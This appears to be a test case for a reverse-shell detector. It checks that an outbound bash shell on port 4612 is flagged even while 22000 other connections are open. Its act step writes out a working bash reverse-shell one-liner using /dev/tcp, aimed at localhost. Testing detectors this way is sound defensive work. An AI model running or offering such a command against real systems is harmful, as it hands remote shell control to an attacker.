# A12: bash on a connection of its own when a user has filled the room for connections
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4612
# allow: coverage_degraded

#: prepare
. lib/peers.sh
. lib/covers.sh
peer 4612
many_connections 22000 4712 /tmp/a12.ready
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4612 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
#: clean
kill $hog; rm /tmp/a12.ready
